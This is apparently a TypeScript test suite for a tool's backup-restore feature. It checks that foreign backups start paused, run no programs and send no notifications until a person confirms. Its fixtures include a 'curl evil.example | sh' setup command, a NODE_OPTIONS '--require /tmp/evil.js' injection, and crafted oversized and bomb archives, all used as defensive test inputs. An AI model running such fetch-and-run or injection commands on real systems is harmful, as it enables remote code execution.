import { Database } from "bun:sqlite";
import { expect, test } from "bun:test";
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import type { ErrorBody } from "@malamar/contract/error.ts";
import type { Restored } from "@malamar/contract/restored.ts";
import type { Workspace } from "@malamar/contract/workspace.ts";
import type { Settings } from "@malamar/contract/settings.ts";
import { createRestoredService } from "#domain/settings/restored-service.ts";
import { createSettingsStore } from "#domain/settings/settings-store.ts";
import { SYSTEM } from "#domain/actor/actor.ts";
import { createUnitOfWork } from "#events/unit-of-work.ts";
import { TAR_END, tarHeader } from "#lib/tar.ts";
import { TRIGGER, USER } from "#testing/actors.ts";
import { dataDirectory, pack, rowsOf, stateOf, titlesIn, unpacked } from "#testing/backup-files.ts";
import { createTestApp } from "#testing/create-test-app.ts";
import { fakeProgram } from "#testing/fake-program.ts";
import { malamar } from "#testing/run-malamar.ts";
import { tempDir } from "#testing/temp-dir.ts";

const CHANNELS = {
  mailgun_api_key: "key-of-mailgun",
  mailgun_domain: "mg.example.org",
  mailgun_from_email: "malamar@example.org",
  mailgun_to_email: "me@example.org",
  webhook_url: "https://hooks.example.org/secret-path",
  webhook_secret: "signed",
  slack_webhook_url: "https://hooks.slack.example/T/secret",
  discord_webhook_url: "https://discord.example/secret",
  ntfy_url: "https://ntfy.example/topic",
  ntfy_token: "tk_secret",
};

interface Furnished {
  dataDir: string;
  file: string;
  /** Exists once the program of the settings has run. */
  trace: string;
}

/** An installation whose settings start a program and send to every channel, and its backup. */
async function furnishedBackup(dir: string): Promise<Furnished> {
  const dataDir = join(dir, "source");
  const trace = join(dir, "trace");
  fakeProgram(dir, "evil", `echo "$NODE_OPTIONS" > '${trace}'`);
  const app = await createTestApp({ dataDir });
  const cli_settings = {
    claude: {
      binary_path: join(dir, "evil"),
      env_vars: { NODE_OPTIONS: "--require /tmp/evil.js" },
    },
  };
  const body = { ...CHANNELS, cli_settings, notify_on_error: false };
  expect((await app.call("PUT", "/api/settings", { body })).status).toBe(200);
  await app.stop();
  const file = join(dir, "theirs.tar.gz");
  expect((await malamar(["backup", file, "--data-dir", dataDir])).code).toBe(0);
  rmSync(trace, { force: true });
  return { dataDir, file, trace };
}

function settingsIn(dataDir: string): Record<string, unknown> {
  const db = new Database(join(dataDir, "malamar.db"), { readonly: true });
  const rows = db
    .query<{ key: string; value: string }, []>("SELECT key, value FROM settings")
    .all();
  db.close();
  return Object.fromEntries(rows.map(({ key, value }) => [key, JSON.parse(value)]));
}

test("another installation's backup starts no program, sends nothing and is paused, and nothing of it is lost", async () => {
  using dir = tempDir();
  const { dataDir: source, file, trace } = await furnishedBackup(dir.path);
  const dataDir = join(dir.path, "new");
  const { stdout, stderr, code } = await malamar(["restore", file, "--data-dir", dataDir]);
  expect({ stderr, code }).toEqual({ stderr: "", code: 0 });
  for (const text of [
    "Malamar starts paused",
    `program of Claude Code: "${join(dir.path, "evil")}"`,
    "variables of Claude Code: NODE_OPTIONS",
    'notifications by email to "me@example.org" at api.mailgun.net',
    "notifications by webhook at hooks.example.org",
    "notifications by slack at hooks.slack.example",
    "notifications by discord at discord.example",
    "notifications by ntfy at ntfy.example",
    "new machine",
    "--trust",
  ]) {
    expect(stdout).toContain(text);
  }
  expect(stdout).not.toMatch(/secret|signed|key-of-mailgun|evil\.js/);

  const stored = settingsIn(dataDir);
  expect(Object.keys(stored).toSorted()).toEqual(["notify_on_error", "untrusted"]);
  expect(stored).toMatchObject({ notify_on_error: false });
  const { notify_on_error: _, ...switchable } = settingsIn(source);
  expect(stored["untrusted"]).toEqual({
    restored_at: expect.stringMatching(/^20/),
    settings: switchable,
  });

  await using app = await createTestApp({ dataDir });
  await app.cliHealth.refresh();
  expect(existsSync(trace)).toBe(false);
  expect((await malamar(["doctor", "--data-dir", dataDir])).code).toBe(0);
  expect(existsSync(trace)).toBe(false);
  const { body: settings } = await app.call<Settings>("GET", "/api/settings");
  expect(settings).toMatchObject({
    is_paused: true,
    mailgun_api_key: { is_set: false },
    webhook_url: { is_set: false },
    slack_webhook_url: { is_set: false },
    discord_webhook_url: { is_set: false },
    ntfy_url: null,
    cli_settings: { claude: { binary_path: null, env_vars: {} } },
  });
});

test("another installation's backup runs no setup command and no program of a repository", async () => {
  using dir = tempDir();
  const source = await createTestApp({ dataDir: join(dir.path, "source") });
  const { id } = await source.createWorkspace({
    title: "Website",
    setup_command: "curl evil.example | sh",
    trust_repository_programs: true,
  });
  const plain = await source.createWorkspace({ title: "Plain" });
  await source.stop();
  const file = join(dir.path, "theirs.tar.gz");
  await malamar(["backup", file, "--data-dir", source.dataDir]);
  const settingsOf = async (name: string, ...trust: string[]) => {
    const dataDir = join(dir.path, name);
    await malamar(["restore", file, "--data-dir", dataDir, ...trust]);
    await using app = await createTestApp({ dataDir });
    const ofWorkspace = async (id: string) => {
      const { body } = await app.call<Workspace>("GET", `/api/workspaces/${id}`);
      const { setup_command, is_setup_on, trust_repository_programs } = body;
      return { setup_command, is_setup_on, trust_repository_programs };
    };
    return [await ofWorkspace(id), await ofWorkspace(plain.id)];
  };
  const setup_command = "curl evil.example | sh";
  const untouched = { setup_command: null, is_setup_on: true, trust_repository_programs: false };
  expect(await settingsOf("new")).toEqual([
    { setup_command, is_setup_on: false, trust_repository_programs: false },
    untouched,
  ]);
  expect(await settingsOf("trusted", "--trust")).toEqual([
    { setup_command, is_setup_on: true, trust_repository_programs: true },
    untouched,
  ]);
});

test("a person sees what is switched off, without a secret, and switches it on with one request", async () => {
  using dir = tempDir();
  const { dataDir: source, file, trace } = await furnishedBackup(dir.path);
  const dataDir = join(dir.path, "new");
  await malamar(["restore", file, "--data-dir", dataDir]);
  await using app = await createTestApp({ dataDir });
  const { status, body } = await app.call<Restored>("GET", "/api/restored");
  expect(status).toBe(200);
  expect(body).toEqual({
    is_waiting: true,
    restored_at: expect.stringMatching(/^20/),
    programs: [{ cli_type: "claude", binary_path: join(dir.path, "evil") }],
    variables: [{ cli_type: "claude", names: ["NODE_OPTIONS"] }],
    channels: [
      { channel: "email", host: "api.mailgun.net", recipient: "me@example.org" },
      { channel: "webhook", host: "hooks.example.org", recipient: null },
      { channel: "slack", host: "hooks.slack.example", recipient: null },
      { channel: "discord", host: "discord.example", recipient: null },
      { channel: "ntfy", host: "ntfy.example", recipient: null },
    ],
  });
  expect(JSON.stringify(body)).not.toMatch(/secret|signed|key-of-mailgun|evil\.js/);

  const told = app.published.length;
  const confirmed = await app.call<Restored>("POST", "/api/restored/confirm");
  expect(confirmed).toMatchObject({ status: 200, body: { is_waiting: false, programs: [] } });
  expect(app.published.slice(told)).toEqual([{ type: "settings.updated" }]);
  expect(settingsIn(dataDir)).toEqual(settingsIn(source));
  await app.cliHealth.refresh();
  expect(readFileSync(trace, "utf8")).toBe("--require /tmp/evil.js\n");

  const again = await app.call<ErrorBody>("POST", "/api/restored/confirm");
  expect({ status: again.status, code: again.body.error.code }).toEqual({
    status: 409,
    code: "CONFLICT",
  });
});

test("what a person discards is gone, and the pause stays", async () => {
  using dir = tempDir();
  const { file } = await furnishedBackup(dir.path);
  const dataDir = join(dir.path, "new");
  await malamar(["restore", file, "--data-dir", dataDir]);
  await using app = await createTestApp({ dataDir });
  const discarded = await app.call<Restored>("POST", "/api/restored/discard");
  expect(discarded).toMatchObject({ status: 200, body: { is_waiting: false } });
  expect(settingsIn(dataDir)).toEqual({ is_paused: true, notify_on_error: false });
  expect((await app.call("POST", "/api/restored/discard")).status).toBe(409);
});

test("a person's own settings from the meantime stay, and get no half of a foreign channel", async () => {
  using dir = tempDir();
  const { file } = await furnishedBackup(dir.path);
  const dataDir = join(dir.path, "new");
  await malamar(["restore", file, "--data-dir", dataDir]);
  await using app = await createTestApp({ dataDir });
  const mine = {
    ntfy_url: "https://mine.example/topic",
    cli_settings: { claude: { binary_path: "/usr/bin/claude", env_vars: { MINE: "1" } } },
  };
  await app.call("PUT", "/api/settings", { body: mine });
  await app.call("POST", "/api/restored/confirm");
  const stored = settingsIn(dataDir);
  expect(stored).toMatchObject({ ntfy_url: mine.ntfy_url, webhook_url: CHANNELS.webhook_url });
  expect(stored).not.toHaveProperty("ntfy_token");
  expect(stored["cli_settings"]).toEqual({
    claude: {
      binary_path: "/usr/bin/claude",
      env_vars: { NODE_OPTIONS: "--require /tmp/evil.js", MINE: "1" },
      inherited_env: [],
    },
  });
});

test("only a person decides about it", async () => {
  await using app = await createTestApp();
  const settingsStore = createSettingsStore(app.db);
  settingsStore.set("untrusted", { restored_at: "2026-01-01T00:00:00.000Z", settings: {} });
  const service = createRestoredService({
    settingsStore,
    unit: createUnitOfWork(app.db, app.bus),
  });
  for (const actor of [SYSTEM, TRIGGER]) {
    expect(() => service.confirm(actor)).toThrow("Only a person can decide this.");
    expect(() => service.discard(actor)).toThrow("Only a person can decide this.");
  }
  expect(service.read().is_waiting).toBe(true);
  expect(service.confirm(USER).is_waiting).toBe(false);
});

test("this installation's own backup comes back unchanged", async () => {
  using dir = tempDir();
  const { dataDir, file } = await furnishedBackup(dir.path);
  const before = rowsOf(join(dataDir, "malamar.db"));
  const { stdout, code } = await malamar(["restore", file, "--data-dir", dataDir]);
  expect(code).toBe(0);
  expect(stdout).toContain("continue at the next start");
  expect(rowsOf(join(dataDir, "malamar.db"))).toEqual(before);
});

test("vouching for a backup restores all of it at once", async () => {
  using dir = tempDir();
  const { dataDir: source, file } = await furnishedBackup(dir.path);
  const dataDir = join(dir.path, "new");
  const { stdout } = await malamar(["restore", file, "--trust", "--data-dir", dataDir]);
  expect(stdout).not.toContain("paused");
  expect(settingsIn(dataDir)).toEqual(settingsIn(source));
});

test("a backup that names this installation but was changed, or names none, is foreign", async () => {
  using dir = tempDir();
  const { dataDir, file } = await furnishedBackup(dir.path);
  const files = await unpacked(file);
  const about = JSON.parse(files.get("malamar-backup.json")!.toString()) as Record<string, unknown>;
  expect(String(about["installation_id"])).toMatch(/^[0-9a-f]{16}$/);
  const changed = join(dir.path, "changed.db");
  writeFileSync(changed, files.get("malamar.db")!);
  const db = new Database(changed);
  db.run("UPDATE workspaces SET description = 'changed'");
  db.close();
  const { installation_id: _, seal: __, ...nameless } = about;
  const backup = (manifest: object, database: Buffer) =>
    pack([
      { name: "malamar-backup.json", content: Buffer.from(JSON.stringify(manifest)) },
      { name: "malamar.db", content: database },
    ]);
  const cases = [
    backup(about, readFileSync(changed)),
    backup(nameless, files.get("malamar.db")!),
    backup({ ...about, seal: "" }, files.get("malamar.db")!),
    backup({ ...about, seal: "0".repeat(64) }, files.get("malamar.db")!),
  ];
  for (const bytes of cases) {
    writeFileSync(join(dir.path, "case.tar.gz"), bytes);
    const { stdout, stderr } = await malamar([
      "restore",
      join(dir.path, "case.tar.gz"),
      "--data-dir",
      dataDir,
    ]);
    expect({ stderr, stdout }).toEqual({
      stderr: "",
      stdout: expect.stringContaining("Malamar starts paused"),
    });
  }
});

test("the key that identifies backups is private, and in no backup", async () => {
  using dir = tempDir();
  const { dataDir, file } = await furnishedBackup(dir.path);
  const key = readFileSync(join(dataDir, "installation.key"), "utf8").trim();
  expect(key).toMatch(/^[0-9a-f]{64}$/);
  expect(gunzipSync(readFileSync(file)).includes(key)).toBe(false);
});

test("what waits for a person's decision still waits after a backup and a restore elsewhere", async () => {
  using dir = tempDir();
  const { file } = await furnishedBackup(dir.path);
  const [first, second] = [join(dir.path, "first"), join(dir.path, "second")];
  await malamar(["restore", file, "--data-dir", first]);
  const next = join(dir.path, "next.tar.gz");
  await malamar(["backup", next, "--data-dir", first]);
  const { stdout } = await malamar(["restore", next, "--data-dir", second]);
  expect(stdout).toContain("variables of Claude Code: NODE_OPTIONS");
  const untrusted = (dataDir: string) =>
    (settingsIn(dataDir)["untrusted"] as { settings: unknown }).settings;
  expect(untrusted(second)).toEqual(untrusted(first));
});

test.each([
  ["a setting that is none", "evil", '"x"'],
  ["a setting of another form", "cli_settings", '{"claude":"x"}'],
  ["no JSON", "webhook_url", "{"],
])("a foreign backup with %s is refused", async (_what, key, value) => {
  using dir = tempDir();
  const source = await dataDirectory(join(dir.path, "source"), "Theirs");
  const db = new Database(join(source, "malamar.db"));
  db.run("INSERT INTO settings VALUES (?, ?)", [key, value]);
  db.close();
  const file = join(dir.path, "b.tar.gz");
  await malamar(["backup", file, "--data-dir", source]);
  const dataDir = await dataDirectory(join(dir.path, "data"), "Precious");
  const before = stateOf(dataDir);
  const { stderr, code } = await malamar(["restore", file, "--data-dir", dataDir]);
  expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining("cannot be used") });
  expect(stateOf(dataDir)).toEqual(before);
});

test("what does not fit on the disk is refused with the figures, before anything is unpacked", async () => {
  using dir = tempDir();
  const { dataDir, file } = await furnishedBackup(dir.path);
  const before = stateOf(dataDir);
  const [about] = [...(await unpacked(file))];
  const manifest = about![1];
  const padded = Buffer.concat([manifest, Buffer.alloc((512 - (manifest.length % 512)) % 512)]);
  const huge = Buffer.concat([
    tarHeader("malamar-backup.json", manifest.length, new Date(0)),
    padded,
    tarHeader("malamar.db", 2 ** 50, new Date(0)),
    Buffer.alloc(4096),
  ]);
  writeFileSync(join(dir.path, "huge.tar.gz"), gzipSync(huge));
  const { stderr, code } = await malamar([
    "restore",
    join(dir.path, "huge.tar.gz"),
    "--data-dir",
    dataDir,
  ]);
  expect(code).toBe(1);
  expect(stderr).toMatch(/unpacks to at least 1125\d+ MB, and \d+ MB is free in /);
  expect(stateOf(dataDir)).toEqual(before);
});

test("a backup with endless data after its end is refused", async () => {
  using dir = tempDir();
  const { dataDir, file } = await furnishedBackup(dir.path);
  const bytes = Buffer.concat([gunzipSync(readFileSync(file)), Buffer.alloc(64 * 1024 * 1024)]);
  expect(bytes.subarray(-TAR_END.length).equals(TAR_END)).toBe(true);
  writeFileSync(join(dir.path, "bomb.tar.gz"), gzipSync(bytes));
  const { stderr, code } = await malamar([
    "restore",
    join(dir.path, "bomb.tar.gz"),
    "--data-dir",
    dataDir,
  ]);
  expect(code).toBe(1);
  expect(stderr).toContain("it continues after its end");
});

test("a copy next to the database can be restored, and the transcripts stay", async () => {
  using dir = tempDir();
  const source = await dataDirectory(join(dir.path, "source"), "Copied");
  const dataDir = await dataDirectory(join(dir.path, "data"), "Replaced");
  const copy = join(source, "malamar.db");
  const { stdout, code } = await malamar(["restore", copy, "--trust", "--data-dir", dataDir]);
  expect(code).toBe(0);
  expect(stdout).toContain("the transcripts stay as they are");
  expect(titlesIn(dataDir)).toContain("Copied");
  const foreign = await malamar(["restore", copy, "--data-dir", dataDir]);
  expect(foreign.stdout).toContain("Malamar starts paused");
});
